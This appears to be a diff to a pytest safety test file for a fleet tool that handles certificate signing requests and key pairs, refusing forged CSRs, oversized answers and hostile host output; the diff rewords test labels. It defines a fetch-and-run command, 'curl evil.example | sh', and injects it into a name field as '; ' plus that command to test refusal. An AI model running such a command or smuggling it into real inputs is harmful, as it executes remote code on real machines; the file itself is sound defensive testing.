@@ -32,7 +32,7 @@ if TYPE_CHECKING:
 
 pytestmark = pytest.mark.safety
 
-PROMISE = "A host that is controlled by somebody else does no harm here"
+PROMISE = "A host that an attacker controls does no harm on this machine"
 SHOP, BANK = "shop.www3.mydomain.com", "www.bank.com"
 COMMAND = "curl evil.example | sh"
 MEGABYTE = "x" * 1024 * 1024
@@ -84,7 +84,7 @@ def test_a_csr_that_is_not_what_was_listed_is_refused_by_name(
     make, difference = FORGERIES[forgery]
     der = make()
     document = with_key_of(claiming(pair_for(SHOP)[0], der), der)
-    with counted(PROMISE, "CSRs that are not what the host had listed") as tally:
+    with counted(PROMISE, "CSRs that differ from the host's list") as tally:
         for options in ((), ("--json",)):
             fake.answers({"web1": listed(document)})
             fake.answers({"web1": fetched(der)})
@@ -100,7 +100,7 @@ def test_a_csr_with_another_key_is_refused_by_name(fake: FakeAnsible, fleet: Any
     der = csr_of(SHOP)
     fake.answers({"web1": listed(claiming(pair_for(SHOP)[0], der))})
     fake.answers({"web1": fetched(der)})
-    with counted(PROMISE, "CSRs that are not what the host had listed") as tally:
+    with counted(PROMISE, "CSRs that differ from the host's list") as tally:
         ran = fleet("csr", "--to", str(tmp_path))
         assert (ran.status, list(tmp_path.glob("*.pem"))) == (1, [])
         assert f"sent {csr.read_der(der).spki_sha256[:15]}" in ran.error
@@ -125,7 +125,7 @@ def test_a_list_that_shows_another_name_than_its_pair_is_for_is_refused(
     document, pem = pair_for(BANK, name=SHOP)
     fake.answers({"web1": listed(document)})
     fake.answers({"web1": {"rc": 0, "stdout": pem, "stderr": ""}})
-    with counted(PROMISE, "CSRs that are not what the host had listed") as tally:
+    with counted(PROMISE, "CSRs that differ from the host's list") as tally:
         ran = fleet("csr", SHOP, "--to", str(tmp_path))
         assert (ran.status, list(tmp_path.glob("*.pem"))) == (1, [])
         assert f"the pair is listed as {SHOP}, the CSR is for {BANK}" in ran.error
@@ -138,7 +138,7 @@ def test_what_was_listed_and_shown_counts_until_another_list_is_shown(
     shown, (other, pem) = pair_for(SHOP, name="site")[0], pair_for(BANK, name="site")
     fake.answers({"web1": listed(shown)})
     assert fleet("list").status == 0
-    with counted(PROMISE, "pairs that a host lists in two ways") as tally:
+    with counted(PROMISE, "pairs that a host lists differently the second time") as tally:
         for command in (
             ("csr", "site", "--to", str(tmp_path)),
             ("backup", "--to", "/b"),
@@ -215,7 +215,7 @@ def test_a_pair_that_is_made_otherwise_than_shown_is_refused_by_name(fake: FakeA
         "path has a text of 1048576 characters": good | {"pair": good["pair"] | {"path": MEGABYTE}},
         "name: not valid in csrtui": good | {"pair": good["pair"] | {"name": f"; {COMMAND}"}},
     }
-    with counted(PROMISE, "pairs made otherwise than shown") as tally:
+    with counted(PROMISE, "pairs that differ from the preview") as tally:
         for difference, answer in wrong.items():
             fake.answers({"web1": answer})
             ran = fleet("new", "x.mydomain.com", "--yes", "--ca", "private")
@@ -241,7 +241,7 @@ def test_no_text_of_a_host_is_a_command_here_and_each_is_cut(fake: FakeAnsible, 
         (("list",), listed(pair(names=[long]))),
         (("doctor",), printed({"schema": 1, "findings": [finding]}, 1)),
     ]
-    with counted(PROMISE, "texts of a megabyte, and commands as hints") as tally:
+    with counted(PROMISE, "texts of 1 MB, and commands as hints") as tally:
         for options in ((), ("--json",)):
             for command, answer in answers:
                 fake.answers({"web1": answer})
@@ -268,7 +268,7 @@ def states(csrtui: Csrtui) -> dict[str, int]:
 
 
 def test_one_host_costs_no_other_its_state(fake: FakeAnsible, fleet: Any, csrtui: Csrtui) -> None:
-    with counted(PROMISE, "answers of one host that could cost the state of all") as tally:
+    with counted(PROMISE, "answers of one host that could destroy the state of the others") as tally:
         fake.answers({"web1": listed(pair()), "web2": listed(pair(), pair("b.com")), "web3": listed(pair())})
         assert fleet("list").status == 0
         fake.answers({"web2": listed(pair())})
@@ -357,7 +357,7 @@ def test_an_answer_without_bound_is_refused_in_bounded_memory(tmp_path: Path, pi
     program.write_text(_PROGRAM.format(python=sys.executable, times=times, piece=piece))
     program.chmod(0o755)
     options = ["--store", str(tmp_path / "store"), "fleet", "list", "-i", str(tmp_path / "hosts.ini")]
-    with counted(PROMISE, "answers without bound") as tally:
+    with counted(PROMISE, "answers of unlimited size") as tally:
         done = subprocess.run(
             [sys.executable, "-c", _MEASURED, str(program), *options],
             capture_output=True,
